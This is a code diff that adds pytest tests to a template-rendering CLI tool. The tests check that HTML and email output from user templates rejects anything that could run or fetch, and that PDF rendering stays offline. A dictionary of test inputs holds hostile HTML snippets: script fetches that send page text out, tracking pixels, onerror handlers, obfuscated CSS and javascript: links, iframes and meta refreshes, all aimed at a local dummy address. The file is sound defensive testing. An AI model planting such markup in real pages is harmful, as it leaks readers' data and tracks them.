@@ -498,6 +498,75 @@ class TestTerminalOutput:
         self._clean(result.stderr)
 
 
+HOSTILE_HTML = {
+    "script": '<script>fetch("http://127.0.0.1:9/x?d=" + document.body.innerText)</script>',
+    "pixel": '<img src="http://127.0.0.1:9/px.png?c={{ client.name|urlencode }}">',
+    "handler": '<img src="data:image/png;base64,AA" onerror="fetch(\'http://127.0.0.1:9\')">',
+    "css-url": '<p style="background: u\\72l(http://127.0.0.1:9/x)">x</p>',
+    "css-import": "<style>@import 'http://127.0.0.1:9/x.css';</style>",
+    "javascript-link": '<a href=" java&#9;script:alert(1)">x</a>',
+    "refresh": '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">',
+    "frame": '<iframe src="http://127.0.0.1:9/"></iframe>',
+    "svg": '<svg><image href="http://127.0.0.1:9/x.png"/></svg>',
+    "conditional": "<!--[if mso]><img src=http://127.0.0.1:9/x.png><![endif]-->",
+}
+
+
+class TestNothingRunsOrIsFetched:
+    """An HTML page or a draft's HTML from user templates holds markup and text only: anything
+    that could run or fetch is refused; and every page's policy forbids both."""
+
+    @pytest.mark.parametrize("fmt", ["html", "eml"])
+    @pytest.mark.parametrize("snippet", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
+    def test_active_content_from_a_template_is_refused(
+        self, tmp_path: Path, runner: CliRunner, snippet: str, fmt: str
+    ) -> None:
+        root = overlay(tmp_path, {"documents/email.j2": "Dear {{ client.contact }},\n" + snippet})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "--client",
+                                     "Golden Fork", "-o", f"out.{fmt}"])  # fmt: skip
+        assert result.exit_code == 2 and not Path(f"out.{fmt}").exists()
+        assert "could run or fetch something" in one_error(result)
+
+    def test_a_page_override_is_checked_and_gets_the_policy(
+        self, tmp_path: Path, runner: CliRunner
+    ) -> None:
+        from breakup.safehtml import POLICY_META
+
+        plain = "<html><head><title>{{ title }}</title></head><body>{{ content }}</body></html>"
+        root = overlay(tmp_path, {"formats/page.j2": plain})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-o", "a.html"])
+        assert result.exit_code == 0, result.output
+        assert Path("a.html").read_text("utf-8").startswith(f"<html><head>\n{POLICY_META}<title>")
+        sneaky = plain.replace("<head>", "<head><script>x()</script>")
+        root = overlay(tmp_path, {"formats/page.j2": sneaky})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
+        assert result.exit_code == 2 and "<script>" in one_error(result)
+
+    def test_plain_markup_from_a_template_is_kept(self, tmp_path: Path, runner: CliRunner) -> None:
+        markup = (
+            '<p style="color: #333">Dear {{ client.contact }},</p>'
+            '<a href="https://example.com/about">About us</a> <a href="mailto:a@b.co">mail</a>'
+            '<img alt="logo" src="data:image/png;base64,iVBORw0KGgo=">'
+        )
+        root = overlay(tmp_path, {"documents/email.j2": markup})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
+        assert result.exit_code == 0, result.output
+        assert markup.replace("{{ client.contact }}", "[contact name]") in result.stdout
+
+    @pytest.mark.parametrize("document", list(registry.DOCUMENTS))
+    def test_every_page_and_draft_carries_the_policy(self, profile: Profile, document: str) -> None:
+        from breakup.safehtml import POLICY_META
+
+        out = publish(document, "diva", "html", profile=profile, lang="en", today=TODAY)
+        head = out.data.decode("utf-8").split("<head>", 1)[1]
+        assert head.startswith(f'\n<meta charset="utf-8">\n{POLICY_META}\n')
+        if registry.FORMATS["eml"].allows(document) and document != "heads-up":
+            draft = publish(document, "diva", "eml", profile=profile, lang="en", today=TODAY)
+            message = email.message_from_bytes(draft.data, policy=email.policy.default)
+            part = message.get_body(("html",))
+            assert part is not None and POLICY_META in part.get_content()
+
+
 class TestOffline:
     """No command opens a network connection."""
 
@@ -532,8 +601,16 @@ class TestOffline:
             raise AssertionError("network")
 
         monkeypatch.setattr(socket.socket, "connect", refuse)
+        with pytest.raises(TemplateError, match="could run or fetch"):  # refused first...
+            publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
+        from breakup import safehtml
+        from breakup.pdf import html_to_pdf
+
+        # ...and were it let through, the PDF still fetches nothing.
+        monkeypatch.setattr(safehtml, "check_page", lambda page, what: page)
         out = publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
         assert out.data.startswith(b"%PDF") and b"TOP SECRET" not in out.data and not fetched
+        assert html_to_pdf(page).startswith(b"%PDF") and not fetched
 
 
 @settings(
